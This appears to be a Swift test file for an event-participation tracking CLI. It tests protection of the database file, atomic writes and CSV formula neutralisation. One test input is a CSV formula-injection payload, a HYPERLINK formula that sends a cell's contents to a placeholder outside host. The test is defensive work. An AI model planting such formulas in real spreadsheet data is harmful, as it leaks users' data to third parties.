import EcoLearn
import EcoLearnSQLite
import EcoLearnTracking
import Foundation
import Testing

/// Output files never replace the participation database, are written whole or not at all, and a file named
/// on the command line fails the same way everywhere.
@Suite struct OutputFileTests {
    @Test func reportOverTheDatabaseIsRefusedByEveryName() async throws {
        let folder = try TrackingCLI.smallDataSetFolder()
        let database = folder.appendingPathComponent("t.db")
        let before = try Data(contentsOf: database)
        try FileManager.default.createDirectory(at: folder.appendingPathComponent("x"), withIntermediateDirectories: true)
        try FileManager.default.createSymbolicLink(atPath: folder.appendingPathComponent("link.csv").path, withDestinationPath: database.path)
        for name in ["t.db", "./x/../t.db", "link.csv", database.path, "t.db-wal", "t.db-shm"] {
            let result = try TrackingCLI.run(["report", "--db", "t.db", "--format", "csv", "-o", name], in: folder)
            #expect(result == TrackingCLI.Result(
                status: 1, stdout: "",
                stderr: "Error: \(name): refusing to write there: it is the participation database t.db\(name.hasSuffix("-wal") ? "-wal" : name.hasSuffix("-shm") ? "-shm" : ""); choose another file name (nothing was written)\n"),
                "\(name)")
        }
        #expect(try Data(contentsOf: database) == before)
    }

    @Test func theDefaultDatabaseIsProtectedToo() async throws {
        let folder = try TestSupport.folder()
        let add = try TrackingCLI.run(
            ["events", "add", "--date", "2019-05-01", "--town", "Amasya", "--country", "Türkiye", "--kind", "lesson",
             "--title", "x", "--audience", "school", "--headcount", "3"], in: folder)
        #expect(add.status == 0, "\(add.stderr)")
        let database = folder.appendingPathComponent("data/participation.sqlite")
        let report = try TrackingCLI.run(["report", "--format", "csv", "-o", "data/participation.sqlite"], in: folder)
        #expect(report.status == 1)
        #expect(report.stderr.hasPrefix("Error: data/participation.sqlite: refusing to write there: it is the participation database /"))
        let export = try TrackingCLI.run(["report", "-o", "data/../data/participation.sqlite"], in: folder)
        #expect(export.status == 1)
        #expect(try await SQLiteParticipationStore(path: database.path).events().count == 1)
    }

    @Test func missingOutputFolderFailsWithStatusOneAndWritesNothing() throws {
        let folder = try TrackingCLI.smallDataSetFolder()
        let result = try TrackingCLI.run(["report", "--db", "t.db", "-o", "reports/r.txt"], in: folder)
        #expect(result == TrackingCLI.Result(
            status: 1, stdout: "", stderr: "Error: reports/r.txt: cannot write: the folder reports does not exist (create it first)\n"))
        #expect(!FileManager.default.fileExists(atPath: folder.appendingPathComponent("reports").path))
    }

    @Test func writeIsWholeAndLeavesNoTemporaryFile() throws {
        let folder = try TrackingCLI.smallDataSetFolder()
        let target = folder.appendingPathComponent("r.csv")
        try Data("old".utf8).write(to: target)
        let result = try TrackingCLI.run(["report", "--db", "t.db", "--format", "csv", "-o", "r.csv"], in: folder)
        #expect(result == TrackingCLI.Result(status: 0, stdout: "Wrote r.csv\n", stderr: ""))
        let text = try String(contentsOf: target, encoding: .utf8)
        #expect(text.hasPrefix("section,group,measure,value\ntotals,,events,5\n"))
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path).sorted() == ["r.csv", "t.db"])
        do {
            try OutputFile.write(Array("x".utf8), to: folder.path)
            Issue.record("writing over a folder succeeded")
        } catch {
            #expect(error.description == "\(folder.path): cannot write: it is a folder; give a file name")
        }
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path).sorted() == ["r.csv", "t.db"])
    }

    @Test func aMissingCSVFailsTheSameWayInEveryCommand() throws {
        let folder = try TrackingCLI.smallDataSetFolder()
        for command in [["events", "import"], ["attendance", "import"]] {
            let result = try TrackingCLI.run(command + ["nope.csv", "--db", "t.db"], in: folder)
            #expect(result == TrackingCLI.Result(status: 1, stdout: "", stderr: "Error: nope.csv: no such file\n"), "\(command)")
        }
        let folderGiven = try TrackingCLI.run(["events", "import", ".", "--db", "t.db"], in: folder)
        #expect(folderGiven == TrackingCLI.Result(status: 1, stdout: "", stderr: "Error: .: is a folder, expected a file\n"))
    }

    @Test func aMistypedDatabaseFolderIsNotCreated() throws {
        let folder = try TestSupport.folder()
        let result = try TrackingCLI.run(
            ["events", "add", "--db", "dta/p.sqlite", "--date", "2019-05-01", "--town", "Amasya", "--country", "Türkiye",
             "--kind", "lesson", "--title", "x", "--audience", "school"], in: folder)
        #expect(result.status == 1)
        #expect(result.stderr == "error: dta/p.sqlite: cannot open the participation database: the folder \(folder.path)/dta does not exist (create it first, or check the path)\n")
        #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path).isEmpty)
    }

    @Test func csvOutputNeutralisesFormulasAndKeepsNumbers() throws {
        let store = try TestSupport.sqliteStore()
        let csv = "code,date,town,country,kind,title,audience,headcount\n"
            + "F1,2019-05-01,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",@Latvia,lesson,x,school,7\n"
        _ = try store.importEvents(data: Data(csv.utf8), fileName: "f.csv", options: ImportOptions())
        let text = try ReportFormat.csv.render(store.report(ReportRequest(groupings: [[.town], [.country]])))
        #expect(text.contains("by town,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\",people,7\n"))
        #expect(text.contains("by country,\"'@Latvia\",events,1\n"))
        var cells: [UInt8] = []
        for cell in ["-1+2", "+1", "\tx", "\rx", "plain", "a-b"] {
            CSVTable.appendText(cell, to: &cells)
            cells.append(UInt8(ascii: ","))
        }
        CSVTable.appendNumber("-0.33", to: &cells)
        #expect(String(decoding: cells, as: UTF8.self) == "\"'-1+2\",\"'+1\",\"'\tx\",\"'\rx\",plain,a-b,-0.33")
    }
}
